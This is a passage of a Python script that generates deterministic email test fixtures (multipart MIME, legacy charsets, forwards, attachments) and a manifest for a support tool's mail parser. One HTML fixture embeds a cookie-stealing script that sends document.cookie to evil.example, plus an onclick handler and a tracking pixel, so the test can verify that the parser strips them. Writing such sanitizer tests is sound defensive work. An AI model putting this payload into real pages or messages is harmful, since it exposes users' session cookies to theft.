"""Writes the e-mail corpus for the tests of Amends' incoming mail, and its manifest.

Every .eml file next to this script is made here, byte for byte: fixed dates, fixed
Message-IDs, fixed MIME boundaries, no clock and no randomness, so running

    .venv/bin/python src/amends/mail/tests/corpus/make_corpus.py

writes the same bytes again (and manifest.json), then checks them (self_check). The
messages that are broken on purpose are written as bytes literals. Two messages are too
big or too many to commit: tests build them with large_message() and many_attachments(),
and the manifest names them "generated:large" and "generated:many-attachments".

All names, companies, numbers and addresses are made up for this project; the domains
are reserved ones (.example, .test) and the IP addresses are documentation ranges.

The manifest is a list with one object per file (see MANIFEST_KEYS): what Amends must
make of the message when it arrives at the team named in "team". Placeholders the test
replaces in the bytes before it hands them over: "{token}" in reply+{token}@north.example
("reply_token": true) and "{conversation}" in a "[#{conversation}]" subject tag
("subject_token": true); both stand for the conversation that "parent" opened.
"""

from __future__ import annotations

import base64
import html
import io
import json
import re
import struct
import sys
import textwrap
import zlib
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from email import message_from_bytes, policy
from email.charset import BASE64, QP, Charset
from email.generator import BytesGenerator
from email.header import Header
from email.message import EmailMessage, Message, MIMEPart
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import format_datetime, formataddr
from pathlib import Path

HERE = Path(__file__).resolve().parent
SMTP = policy.SMTP  # policy.default with CRLF line ends, as mail travels

NORTH = "support@north.example"
SOUTH = "support@south.example"
SUPPORT = "Support <support@north.example>"
TOKEN_ADDRESS = "reply+{token}@north.example"  # the test puts a real token in
SUBJECT_TAG = "[#{conversation}]"  # the test puts the conversation's number in

MANIFEST_KEYS = {
    "file": "the .eml file's name, or generated:large / generated:many-attachments",
    "about": "one sentence: what the message tests",
    "team": "north or south: the team whose address receives it",
    "outcome": "new, reply, auto, list, bounce, duplicate or refused",
    "parent": "reply/duplicate (and other_team_parent): the file received before it",
    "replies_to_sent": "a reply to a message we sent: that message's Message-ID",
    "other_team_parent": "true: parent went to the other team, so this one is new",
    "reply_token": "true: the bytes hold reply+{token}@north.example",
    "subject_token": "true: the subject holds [#{conversation}]",
    "from": "the sender's address as recorded, lower case; '' when there is none",
    "from_name": "the sender's display name, decoded; '' when there is none",
    "subject": "the decoded subject as recorded",
    "text_contains": "substrings of the visible text (after charset, QP/base64, HTML)",
    "quoted_contains": "substrings of the quoted history (collapsed, not visible text)",
    "forwarded_contains": "substrings of a forwarded message the mail carries",
    "text_absent": "substrings that must not be in the visible text (script, style)",
    "attachments": "[{filename, size}] of real attachments and inline images, in order",
    "bounced": "a delivery report: the address that failed",
    "bounced_message_id": "a delivery report: the Message-ID of our failed message",
    "reason_contains": "refused (or stored with a logged oddity): a word of the reason",
    "decoded_with": "the charset the text part reads as when its label is wrong",
    "generator": "generated entries: the function of make_corpus.py that builds it",
    "args": "generated entries: the keyword arguments to call it with",
}


# --- small builders -----------------------------------------------------------------


def when(day: int, hour: int, minute: int, second: int, tz_hours: int, month: int = 12) -> str:
    """An RFC 5322 date in 2026."""
    zone = timezone(timedelta(hours=tz_hours))
    return format_datetime(datetime(2026, month, day, hour, minute, second, tzinfo=zone))


def body(text: str) -> str:
    """A message text written indented in this file, as the sender typed it."""
    return textwrap.dedent(text).lstrip("\n")


def ew(text: str, charset: str, enc: str = "B") -> str:
    """One RFC 2047 encoded word, written by hand (upper-case charset and encoding,
    as many mail programs write them). The caller keeps it under 76 characters."""
    data = text.encode(charset)
    if enc == "B":
        payload = base64.b64encode(data).decode("ascii")
    else:
        payload = "".join(
            chr(byte)
            if chr(byte).isascii() and (chr(byte).isalnum() or chr(byte) in "!*+-/")
            else "_"
            if byte == 0x20
            else f"={byte:02X}"
            for byte in data
        )
    word = f"=?{charset}?{enc}?{payload}?="
    assert len(word) <= 75, word
    return word


def words(text: str, charset: str, enc: str, name: str) -> str:
    """A header value of encoded words made by email.header (lower-case charset, folded
    with CRLF and a space where it is long), as Python's own mail writes them. ``name``
    is what comes before the words on the first line (for the fold's length only)."""
    chosen = Charset(charset)
    chosen.header_encoding = BASE64 if enc == "B" else QP
    return Header(text, chosen, header_name=name).encode(linesep="\r\n")


def who(name: str, address: str) -> str:
    """A From/To value; a non-ASCII name is RFC 2047-encoded by email.utils."""
    return formataddr((name, address), charset="utf-8")


def text_part(text: str, charset: str = "utf-8", cte: str = "quoted-printable", **kw) -> MIMEPart:
    part = MIMEPart(policy=SMTP)
    part.set_content(text, charset=charset, cte=cte, **kw)
    return part


def html_part(markup: str, charset: str = "utf-8", cte: str = "quoted-printable") -> MIMEPart:
    return text_part(markup, charset, cte, subtype="html")


def file_part(data: bytes, ctype: str, filename: str, **kw) -> MIMEPart:
    maintype, subtype = ctype.split("/")
    part = MIMEPart(policy=SMTP)
    part.set_content(data, maintype, subtype, filename=filename, **kw)
    return part


def multipart(subtype: str, parts: list[Message], boundary: str, extra: str = "") -> MIMEPart:
    """A multipart entity with a fixed boundary (the generator would draw a random one)."""
    whole = MIMEPart(policy=SMTP)
    whole["Content-Type"] = f'multipart/{subtype}; boundary="{boundary}"{extra}'
    for part in parts:
        whole.attach(part)
    return whole


def raw_part(headers: list[tuple[str, str]], payload: str) -> Message:
    """A MIME part whose header values are kept exactly as written (compat32 Message),
    for what email's own writer would tidy away, like an RFC 2047 word in a filename."""
    part = Message()
    for name, value in headers:
        part[name] = value
    part.set_payload(payload)
    return part


def no_mime_version(entity: Message) -> Message:
    """email.mime classes put MIME-Version on every part; real mail has it once, on top."""
    for part in entity.walk():
        del part["MIME-Version"]
    return entity


def flatten(entity: Message) -> bytes:
    out = io.BytesIO()
    BytesGenerator(out, mangle_from_=False, policy=SMTP).flatten(entity)
    return out.getvalue()


def assemble(headers: list[tuple[str, str | bytes]], entity: Message) -> bytes:
    """The top headers exactly as given (values already encoded and folded), then the
    MIME entity's own headers and body."""
    out = bytearray()
    for name, value in headers:
        data = value if isinstance(value, bytes) else value.encode("ascii")
        out += name.encode("ascii") + (b": " + data if data else b":") + b"\r\n"
    return bytes(out) + flatten(entity)


def b64lines(data: bytes) -> str:
    """Base64 in lines of 76, as MIME wants."""
    encoded = base64.b64encode(data).decode("ascii")
    return "\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76)) + "\r\n"


def make_pdf(lines: list[str]) -> bytes:
    """A small valid one-page PDF that shows lines of text (so a viewer opens it)."""

    def escape(line: str) -> str:
        return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    shown = "".join(f"({escape(line)}) '\n" for line in lines)
    stream = f"BT /F1 11 Tf 56 790 Td 15 TL\n{shown}ET\n".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(stream)} >>\nstream\n".encode() + stream + b"endstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def make_png(width: int = 32, height: int = 24) -> bytes:
    """A small valid PNG (a brown carton with a dark crease), deflate-stored by hand so
    the bytes do not depend on the zlib build."""
    rows = bytearray()
    for y in range(height):
        rows.append(0)  # filter: none
        for x in range(width):
            crease = abs((x - width // 2) - (y - height // 2)) < 2
            shade = 60 if crease else 150 + (x * 2 + y) % 40
            rows += bytes((shade, int(shade * 0.7), int(shade * 0.4)))
    data = bytes(rows)
    assert len(data) < 65536
    stored = b"\x01" + struct.pack("<HH", len(data), 0xFFFF ^ len(data)) + data
    deflated = b"\x78\x01" + stored + struct.pack(">I", zlib.adler32(data))

    def chunk(tag: bytes, content: bytes) -> bytes:
        check = zlib.crc32(tag + content) & 0xFFFFFFFF
        return struct.pack(">I", len(content)) + tag + content + struct.pack(">I", check)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", deflated)
        + chunk(b"IEND", b"")
    )


def entry(
    file: str,
    about: str,
    outcome: str,
    *,
    sender: str,
    sender_name: str,
    subject: str,
    text: list[str],
    quoted: list[str] | None = None,
    forwarded: list[str] | None = None,
    absent: list[str] | None = None,
    attachments: list[tuple[str, bytes]] | None = None,
    team: str = "north",
    parent: str | None = None,
    replies_to_sent: str | None = None,
    other_team_parent: bool = False,
    reply_token: bool = False,
    subject_token: bool = False,
    bounced: str | None = None,
    bounced_message_id: str | None = None,
    reason: str | None = None,
    decoded_with: str | None = None,
) -> dict:
    return {
        "file": file,
        "about": about,
        "team": team,
        "outcome": outcome,
        "parent": parent,
        "replies_to_sent": replies_to_sent,
        "other_team_parent": other_team_parent,
        "reply_token": reply_token,
        "subject_token": subject_token,
        "from": sender,
        "from_name": sender_name,
        "subject": subject,
        "text_contains": text,
        "quoted_contains": quoted or [],
        "forwarded_contains": forwarded or [],
        "text_absent": absent or [],
        "attachments": [{"filename": name, "size": len(data)} for name, data in attachments or []],
        "bounced": bounced,
        "bounced_message_id": bounced_message_id,
        "reason_contains": reason,
        "decoded_with": decoded_with,
    }


CORPUS: list[Callable[[], tuple[dict, bytes]]] = []


def eml(build: Callable[[], tuple[dict, bytes]]) -> Callable[[], tuple[dict, bytes]]:
    CORPUS.append(build)
    return build


# --- new conversations ---------------------------------------------------------------

JOANNA = "Joanna Nowak <joanna@harbor.example>"
SPRING_ID = "<CAHb7x0aK3sPq1x7Wd9fJ2mR@mail.harbor.example>"
SPRING_SUBJECT = "Spring catalogues have not arrived"
SPRING_TEXT = body("""
    Hello,

    Our order PO-55120 for 2,400 spring catalogues was promised for Friday 27 November.
    Nothing has arrived and the tracking page still says "label created".

    The catalogues are for the Hamburg trade fair on 3 December – if they are not
    with us by Wednesday noon we will have to cancel the stand materials order
    (€4,860 net) and print locally.

    Could you tell me today where the pallets are?

    Kind regards,
    Joanna Nowak
    Purchasing, Harbor Foods Ltd.
    +44 20 7946 0112
""")


@eml
def plain_utf8() -> tuple[dict, bytes]:
    raw = assemble(
        [
            ("From", JOANNA),
            ("To", SUPPORT),
            ("Subject", SPRING_SUBJECT),
            ("Date", when(30, 8, 47, 12, 0, month=11)),
            ("Message-ID", SPRING_ID),
            ("MIME-Version", "1.0"),
        ],
        text_part(SPRING_TEXT, cte="8bit"),
    )
    return entry(
        "01-new-plain-utf8.eml",
        "A known customer's first mail about late printed catalogues: plain UTF-8 text "
        "sent 8bit, with an en dash and a euro sign; opens a conversation.",
        "new",
        sender="joanna@harbor.example",
        sender_name="Joanna Nowak",
        subject=SPRING_SUBJECT,
        text=["2,400 spring catalogues", "trade fair on 3 December – if", "(€4,860 net)"],
    ), raw


INVOICE_ID = "<5f1e2a90-7c3b-4f0e-9a41-0931a1b2c3d4@quarry.example>"
INVOICE_SUBJECT = "Invoice INV-2026-0931 — wrong unit price"


def invoice_message() -> bytes:
    plain = body("""
        Hi Amends team,

        Invoice INV-2026-0931 (dated 24 November) bills the floor-tile brochures at
        0.84 EUR per copy. Our framework agreement says 0.62 EUR for runs above 5,000.

        That is 1,100 EUR too much on 5,000 copies. Please send a corrected invoice;
        our accounts team has put the payment on hold until then.

        Thanks,
        Tomás Ibarra
        Quarry Tiles S.L.
    """)
    markup = (
        '<html><body><div style="font-family:Arial,sans-serif;font-size:14px">'
        "<p>Hi Amends team,</p>"
        "<p>Invoice <b>INV-2026-0931</b> (dated 24 November) bills the floor-tile "
        "brochures at <b>0.84 EUR per copy</b>. Our framework agreement says "
        "0.62 EUR for runs above 5,000.</p>"
        "<p>That is 1,100 EUR too much on 5,000 copies. Please send a corrected invoice; "
        "our accounts team has put the payment on hold until then.</p>"
        "<p>Thanks,<br>Tomás Ibarra<br>Quarry Tiles S.L.</p>"
        "</div></body></html>\n"
    )
    entity = multipart(
        "alternative",
        [text_part(plain), html_part(markup)],
        "000000000000f3c1a905e8d2b7c4",
    )
    return assemble(
        [
            (
                "Received",
                "from mail.quarry.example (mail.quarry.example [198.51.100.23])\r\n"
                "\tby mx1.north.example with ESMTPS id 7F3A21C04B\r\n"
                "\tfor <support@north.example>; Mon, 30 Nov 2026 10:04:58 +0000",
            ),
            ("From", who("Tomás Ibarra", "tomas@quarry.example")),
            ("To", SUPPORT),
            ("Subject", words(INVOICE_SUBJECT, "utf-8", "Q", "Subject")),
            ("Date", when(30, 11, 4, 51, 1, month=11)),
            ("Message-ID", INVOICE_ID),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )


@eml
def alternative() -> tuple[dict, bytes]:
    return entry(
        "02-new-alternative.eml",
        "A wrong-invoice complaint as multipart/alternative (text and HTML, both "
        "quoted-printable UTF-8), subject in RFC 2047 Q words with an em dash; opens a "
        "conversation.",
        "new",
        sender="tomas@quarry.example",
        sender_name="Tomás Ibarra",
        subject=INVOICE_SUBJECT,
        text=["0.84 EUR per copy", "Please send a corrected invoice", "Tomás Ibarra"],
    ), invoice_message()


@eml
def html_only() -> tuple[dict, bytes]:
    markup = (
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8">\n'
        "<style>p { font-family: Georgia, serif; color: #333 } .hide { display: none }</style>\n"
        "<script>document.location='https://evil.example/steal?c='+document.cookie;</script>\n"
        "</head>\n<body>\n"
        "<p>Hello Amends team,</p>\n"
        "<p>Since Friday the order webhook has stopped delivering our pharmacy orders "
        "to your print queue.</p>\n"
        "<p onclick=\"alert('gotcha')\">We counted 37 orders stuck with status "
        "&quot;pending export&quot;, the oldest from 27 November.</p>\n"
        '<p><img src="https://tracker.example/open.gif?u=priya" width="1" height="1" alt="">'
        "Our integration log is linked from the "
        '<a href="https://status.lantern.example/incidents/881">incident page</a>.</p>\n'
        "<p>Please call me on +44 20 7946 0381.<br>Priya Raman<br>Lantern Pharmacies</p>\n"
        "</body></html>\n"
    )
    raw = assemble(
        [
            ("From", "Priya Raman <priya.raman@lantern.example>"),
            ("To", NORTH),
            ("Subject", "Order webhook stopped delivering since Friday"),
            ("Date", when(30, 9, 15, 3, 0, month=11)),
            ("Message-ID", "<0101018f2a7c6e4b-lantern-webhook-3a9e@email.lantern.example>"),
            ("MIME-Version", "1.0"),
        ],
        html_part(markup),
    )
    return entry(
        "03-new-html-only.eml",
        "A broken integration reported in HTML only, with a <style>, a <script>, an "
        "onclick attribute, a remote tracking image and a link: the text keeps the "
        "paragraphs' words, never the script or style; opens a conversation.",
        "new",
        sender="priya.raman@lantern.example",
        sender_name="Priya Raman",
        subject="Order webhook stopped delivering since Friday",
        text=[
            "order webhook has stopped delivering",
            "37 orders stuck",
            "incident page",
            "Priya Raman",
        ],
        absent=["document.cookie", "font-family", "alert(", "display: none"],
    ), raw


@eml
def inline_image() -> tuple[dict, bytes]:
    png = make_png()
    pdf = make_pdf(
        [
            "Bottega Verde Srl - delivery note DN-88412",
            "1,200 printed gift boxes, 60 cartons",
            "Driver remark: 14 cartons crushed on one side.",
            "Received with reservation, 1 December 2026.",
        ]
    )
    plain = body("""
        Good morning,

        today's delivery DN-88412 (1,200 printed gift boxes) arrived with 14 cartons
        crushed on one side. The photo shows the worst one; the signed delivery note
        with the driver's remark is attached.

        We can use about 900 boxes. Please reprint 300 and tell us when they can ship.

        Sofia Marchetti
        Bottega Verde Srl
    """)
    markup = (
        "<html><body>"
        "<p>Good morning,</p>"
        "<p>today's delivery DN-88412 (1,200 printed gift boxes) arrived with 14 cartons "
        "crushed on one side. The photo shows the worst one; the signed delivery note "
        "with the driver's remark is attached.</p>"
        '<p><img src="cid:photo-box-1@bottega.example" alt="crushed carton" width="320"></p>'
        "<p>We can use about 900 boxes. Please reprint 300 and tell us when they can ship.</p>"
        "<p>Sofia Marchetti<br>Bottega Verde Srl</p>"
        "</body></html>\n"
    )
    image = file_part(
        png,
        "image/png",
        "crushed-carton.png",
        disposition="inline",
        cid="<photo-box-1@bottega.example>",
    )
    related = multipart(
        "related", [html_part(markup), image], "----=_Part_2_88412.1764583200", '; type="text/html"'
    )
    alternative = multipart("alternative", [text_part(plain), related], "----=_Part_1_88412")
    note = file_part(pdf, "application/pdf", "DN-88412 delivery note.pdf")
    entity = multipart("mixed", [alternative, note], "----=_Part_0_88412")
    raw = assemble(
        [
            ("From", "Sofia Marchetti <sofia.marchetti@bottega.example>"),
            ("To", NORTH),
            ("Subject", "Damaged boxes in delivery DN-88412"),
            ("Date", when(1, 8, 20, 0, 1)),
            ("Message-ID", "<b0e7c2f4-88412-damaged@bottega.example>"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "04-new-inline-image.eml",
        "Damaged printed boxes: mixed(alternative(text, related(HTML, PNG with a "
        "Content-ID the HTML shows by cid:)), PDF delivery note); the inline image and the "
        "PDF are the two files; opens a conversation.",
        "new",
        sender="sofia.marchetti@bottega.example",
        sender_name="Sofia Marchetti",
        subject="Damaged boxes in delivery DN-88412",
        text=["arrived with 14 cartons", "Please reprint 300", "Sofia Marchetti"],
        attachments=[("crushed-carton.png", png), ("DN-88412 delivery note.pdf", pdf)],
    ), raw


@eml
def attachments_rfc2231() -> tuple[dict, bytes]:
    subject = "Reklamacja: źle przycięte etykiety – protokół i lista partii"
    # A UTF-8 subject cut into encoded words by bytes, one character split between two
    # words (mail programs do it; RFC 2047 says they should not).
    data = subject.encode("utf-8")
    cut = data.index("ę".encode()) + 1
    pieces = [data[:cut], data[cut:40], data[40:]]
    folded = "\r\n ".join(f"=?UTF-8?B?{base64.b64encode(p).decode()}?=" for p in pieces)
    protocol_name = "Protokół reklamacji – etykiety źle przycięte (część 2).pdf"
    protocol = make_pdf(
        [
            "Protokol reklamacji nr 17/2026",
            "Zamowienie ZK/2026/311, etykiety 60 x 40 mm",
            "Wada: przesuniecie ciecia o 3 mm, ok. 40% rolek",
        ]
    )
    batches = "".join(f"ZK-311-A{n:02d}\tdo dodruku\r\n" for n in range(11, 24)).encode()
    text = body("""
        Dzień dobry,

        w załączeniu przesyłam protokół reklamacji dotyczący etykiet z zamówienia
        ZK/2026/311. Około 40% rolek ma etykiety przycięte 3 mm za nisko, przez co
        kod kreskowy nie mieści się na opakowaniu chleba.

        Lista numerów partii jest w pliku tekstowym. Prosimy o dodruk do piątku.

        Z poważaniem
        Agnieszka Dąbrowska
        Piekarnia Złoty Kłos sp. z o.o.
    """)
    entity = multipart(
        "mixed",
        [
            text_part(text),
            file_part(protocol, "application/pdf", protocol_name),
            file_part(batches, "text/plain", "numery-partii.txt", params={"charset": "us-ascii"}),
        ],
        "------------Kx3s1ZtQ9pWfL0bH2mYcR7aN",
    )
    raw = assemble(
        [
            ("From", who("Agnieszka Dąbrowska", "agnieszka.dabrowska@zlotyklos.example")),
            ("To", NORTH),
            ("Subject", folded),
            ("Date", when(1, 9, 2, 31, 1)),
            ("Message-ID", "<e3b1c9a2-0d4f-4b8e-9f21-zk311@zlotyklos.example>"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "05-new-attachments-rfc2231-pl.eml",
        "Polish complaint with a PDF whose Polish file name is RFC 2231-encoded in two "
        "continuations (filename*0*, filename*1*) and a base64 .txt; the subject's "
        "UTF-8 encoded words split one character's bytes between two words; opens a "
        "conversation.",
        "new",
        sender="agnieszka.dabrowska@zlotyklos.example",
        sender_name="Agnieszka Dąbrowska",
        subject=subject,
        text=["Około 40% rolek", "Prosimy o dodruk do piątku", "Agnieszka Dąbrowska"],
        attachments=[(protocol_name, protocol), ("numery-partii.txt", batches)],
    ), raw


@eml
def forward_attached() -> tuple[dict, bytes]:
    inner_raw = assemble(
        [
            ("From", "Parcel Courier <noreply@notify.courier.example>"),
            ("To", "henrik.dahl@tundra.example"),
            ("Subject", "Shipment 7734-PL held at depot"),
            ("Date", when(30, 16, 5, 0, 1, month=11)),
            ("Message-ID", "<7734PL.20261130.1605@notify.courier.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(
            body("""
                Your shipment 7734-PL is held at depot Oslo-Alnabru.
                Reason: commercial invoice missing.

                Reply with the invoice within 5 working days, or the parcel
                will be returned to the sender.
            """),
            charset="us-ascii",
            cte="7bit",
        ),
    )
    inner = message_from_bytes(inner_raw, policy=SMTP)
    forwarded = MIMEPart(policy=SMTP)
    forwarded.set_content(inner, disposition="inline")
    note = body("""
        Hello,

        please see the courier's message, attached. The 600 menu cards for our
        restaurants are held at the depot because the customs invoice from your
        side is missing. Can you send it to the courier directly today?

        Henrik
    """)
    entity = multipart("mixed", [text_part(note, "us-ascii", "7bit"), forwarded], "=-fwd-7734PL-1")
    raw = assemble(
        [
            ("From", "Henrik Dahl <henrik.dahl@tundra.example>"),
            ("To", NORTH),
            ("Subject", "Fwd: Shipment 7734-PL held at depot"),
            ("Date", when(30, 16, 40, 9, 1, month=11)),
            ("Message-ID", "<a77c1e3e-1b2d-4c57-8a9e-7734pl@tundra.example>"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "06-new-forward-rfc822.eml",
        "A customer forwards the courier's mail as an attached message/rfc822 part "
        "(inline, no file name); the note is the visible text, the courier's words are "
        "the forwarded message; opens a conversation.",
        "new",
        sender="henrik.dahl@tundra.example",
        sender_name="Henrik Dahl",
        subject="Fwd: Shipment 7734-PL held at depot",
        text=["600 menu cards", "customs invoice from your"],
        forwarded=["held at depot Oslo-Alnabru", "commercial invoice missing"],
    ), raw


@eml
def forward_inline() -> tuple[dict, bytes]:
    text = body("""
        Hi, forwarding the warehouse's note below: the second pallet came with
        somebody else's invoice. Could you check what happened and send ours?

        Marta

        ---------- Forwarded message ---------
        From: Alfama Warehouse <warehouse@alfama.example>
        Date: Mon, 30 Nov 2026 at 16:05
        Subject: Goods-in discrepancy GI-2231
        To: Marta Silva <marta.silva@alfama.example>


        Pallet 2 of 2 for order AF-7781 came with invoice INV-2026-0988,
        which names another customer (Quarry Tiles).
        We have not booked the goods in.

        Warehouse team
    """)
    raw = assemble(
        [
            ("From", "Marta Silva <marta.silva@alfama.example>"),
            ("To", NORTH),
            ("Subject", "Fwd: Goods-in discrepancy GI-2231"),
            ("Date", when(30, 17, 12, 44, 0, month=11)),
            ("Message-ID", "<CAF4lfAmA9xk2Lq7e8Q0rJ3nW@mail.alfama.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text),
    )
    return entry(
        "07-new-forward-inline.eml",
        "An inline forward ('---------- Forwarded message ---------' and From/Date/"
        "Subject/To lines) of a wrong invoice that names another customer; the forwarded "
        "words are the point of the mail, not quoted history; opens a conversation.",
        "new",
        sender="marta.silva@alfama.example",
        sender_name="Marta Silva",
        subject="Fwd: Goods-in discrepancy GI-2231",
        text=["forwarding the warehouse's note", "somebody else's invoice"],
        forwarded=["Pallet 2 of 2 for order AF-7781", "We have not booked the goods in."],
    ), raw


LABELS_ID = "<000a01db4321$5e6f7a80$1b2c3d40@zlotyklos.example>"
LABELS_SUBJECT = "Błędnie wydrukowane etykiety na chleb żytni"
PAWEL = "Paweł Wójcik"


@eml
def polish_windows_1250() -> tuple[dict, bytes]:
    text = body("""
        Dzień dobry,

        dziś rano odebraliśmy 20 000 etykiet na chleb żytni (zamówienie ZK/2026/298).
        Na wszystkich etykietach jest zła data ważności: 12.01.2026 zamiast 12.01.2027.
        Zauważyliśmy to za późno, część etykiet jest już na opakowaniach, które są
        w magazynie. Nie możemy ich wykorzystać – nie wolno sprzedać chleba z błędną datą.

        Prosimy o pilny dodruk i informację, kiedy przyjedzie kurier.
        Koszt etykiet, których nie da się użyć, powinien zostać skorygowany na fakturze.

        Pozdrawiam serdecznie
        Paweł Wójcik
        Kierownik produkcji, Piekarnia Złoty Kłos
    """)
    raw = assemble(
        [
            ("From", f"{ew(PAWEL, 'windows-1250', 'Q')} <pawel.wojcik@zlotyklos.example>"),
            ("To", NORTH),
            ("Subject", words(LABELS_SUBJECT, "windows-1250", "Q", "Subject")),
            ("Date", when(30, 6, 58, 10, 1, month=11)),
            ("Message-ID", LABELS_ID),
            ("MIME-Version", "1.0"),
            ("X-Mailer", "Microsoft Outlook 16.0"),
        ],
        text_part(text, "windows-1250"),
    )
    return entry(
        "08-new-pl-windows-1250.eml",
        "Polish labels printed with a wrong date, Windows-1250 quoted-printable body "
        "with ąćęłńóśźż; the From display name and the subject are RFC 2047 Q words in "
        "windows-1250; opens a conversation.",
        "new",
        sender="pawel.wojcik@zlotyklos.example",
        sender_name=PAWEL,
        subject=LABELS_SUBJECT,
        text=["jest zła data ważności", "Zauważyliśmy to za późno", "Paweł Wójcik"],
    ), raw


OLIVE_ID = "<1733036400.512233@elaionas.example>"
OLIVE_SUBJECT = "Λάθος ποσότητα στο τιμολόγιο 2026-1187"
ELENI = "Ελένη Γεωργίου"


@eml
def greek_iso_8859_7() -> tuple[dict, bytes]:
    text = body("""
        Καλημέρα σας,

        Το τιμολόγιο αρ. 2026-1187 για τις ετικέτες ελαιολάδου χρεώνει 12.000 ετικέτες,
        ενώ παραλάβαμε 10.000, όπως γράφει και το δελτίο αποστολής.

        Άμεση διόρθωση θα μας βοηθούσε, γιατί κλείνουμε τα βιβλία την Παρασκευή.

        Ευχαριστώ,
        Ελένη Γεωργίου
        Λογιστήριο, Ελαιώνας Α.Ε.
    """)
    raw = assemble(
        [
            ("From", who(ELENI, "eleni.georgiou@elaionas.example")),
            ("To", NORTH),
            ("Subject", words(OLIVE_SUBJECT, "iso-8859-7", "B", "Subject")),
            ("Date", when(30, 10, 20, 0, 2, month=11)),
            ("Message-ID", OLIVE_ID),
            ("Auto-Submitted", "no"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "iso-8859-7"),
    )
    return entry(
        "09-new-el-iso-8859-7.eml",
        "Greek wrong-quantity invoice in ISO-8859-7 quoted-printable, subject in RFC "
        "2047 B words in iso-8859-7; carries 'Auto-Submitted: no', which is a person's "
        "mail, not an automatic one; opens a conversation.",
        "new",
        sender="eleni.georgiou@elaionas.example",
        sender_name=ELENI,
        subject=OLIVE_SUBJECT,
        text=["χρεώνει 12.000 ετικέτες", "Άμεση διόρθωση", ELENI],
    ), raw


MANUALS_ID = "<202611301015283125812@qingsong.example>"
MANUALS_SUBJECT = "产品说明书至今未送达（订单QS-2026-118）"
WANG = "王芳"


@eml
def chinese_gb2312() -> tuple[dict, bytes]:
    text = body("""
        您好：

        我们在11月20日订购的5000本产品说明书（订单号QS-2026-118）
        至今仍未送达。按照合同，交货日期是11月27日。
        我们的包装线已经停工等待，每天损失很大。

        请今天之内告诉我们确切的发货日期和物流单号。

        附件是我们仓库的送货单核对表。

        王芳
        青松物流有限公司 采购部
        电话：021-5555-0186
    """)
    sheet_name = "送货单核对表.txt"
    sheet = body("""
        订单号\tQS-2026-118
        品名\t产品说明书（A5，48页）
        数量\t5000本
        约定交货\t2026年11月27日
        实际到货\t未到
    """).encode("gb2312")
    sheet_word = ew(sheet_name, "GB2312")
    attachment = raw_part(
        [
            ("Content-Type", f'text/plain;\r\n\tcharset="gb2312";\r\n\tname="{sheet_word}"'),
            ("Content-Transfer-Encoding", "base64"),
            ("Content-Disposition", f'attachment;\r\n\tfilename="{sheet_word}"'),
        ],
        b64lines(sheet),
    )
    entity = multipart(
        "mixed",
        [text_part(text, "gb2312", "base64"), attachment],
        "----=_NextPart_5F3A2B1C_0D4E_4A6B_8C9D_0E1F2A3B4C5D",
    )
    raw = assemble(
        [
            ("From", f"{ew(WANG, 'GB2312')} <wang.fang@qingsong.example>"),
            ("To", NORTH),
            ("Subject", ew(MANUALS_SUBJECT, "GB2312")),
            ("Date", when(30, 10, 15, 28, 8, month=11)),
            ("Message-ID", MANUALS_ID),
            ("X-Mailer", "Foxmail 7.2.25.228[cn]"),
            ("MIME-Version", "1.0"),
        ],
        entity,
    )
    return entry(
        "10-new-zh-gb2312.eml",
        "Chinese late-delivery complaint, GB2312 text in base64, subject and sender name "
        "in RFC 2047 GB2312 B words; the .txt attachment's name is an RFC 2047 word "
        "inside the quoted filename (as Foxmail writes it); opens a conversation.",
        "new",
        sender="wang.fang@qingsong.example",
        sender_name=WANG,
        subject=MANUALS_SUBJECT,
        text=["5000本产品说明书", "包装线已经停工等待", "王芳"],
        attachments=[(sheet_name, sheet)],
    ), raw


@eml
def chinese_gbk() -> tuple[dict, bytes]:
    subject = "接口从昨天起返回500错误，订单无法同步"
    text = body("""
        你好，

        从昨天下午三点开始，你们的订单接口一直返回错误代码500，
        我们系统里的印刷订单无法同步到你们的平台。
        目前已经有63个订单卡住了，其中包括周五展会要用的海报。

        请尽快检查，并告诉我们预计的修复时间。

        李喆
        华镕科技有限公司 IT部
    """)
    raw = assemble(
        [
            ("From", f"{ew('李喆', 'GBK')} <li.zhe@huarong.example>"),
            ("To", NORTH),
            ("Subject", ew(subject, "GBK")),
            ("Date", when(1, 9, 30, 21, 8)),
            ("Message-ID", "<2026120109302185413@huarong.example>"),
            ("MIME-Version", "1.0"),
        ],
        text_part(text, "gbk", "8bit"),
    )
    return entry(
        "11-new-zh-gbk.eml",
        "Chinese broken-integration report in GBK sent 8bit, with 喆 and 镕 that GBK has "
        "and GB2312 lacks; subject and name in RFC 2047 GBK B words; opens a conversation.",
        "new",
        sender="li.zhe@huarong.example",
        sender_name="李喆",
        subject=subject,
